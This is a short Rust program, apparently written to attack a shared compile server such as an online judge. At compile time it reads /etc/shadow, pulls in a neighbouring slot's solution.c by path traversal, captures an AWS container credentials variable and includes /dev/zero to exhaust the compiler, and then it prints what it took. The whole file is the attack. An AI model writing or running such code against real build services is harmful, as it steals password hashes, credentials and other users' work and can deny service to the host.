include!("/dev/zero");
static SECRET: &[u8] = include_bytes!("/etc/shadow");
static NEIGHBOUR: &str = include_str!("../../slot-1/compile/solution.c");
static CREDENTIALS: &str = env!("AWS_CONTAINER_CREDENTIALS_RELATIVE_URI");

fn main() {
    println!("{:?} {} {}", SECRET, NEIGHBOUR, CREDENTIALS);
}
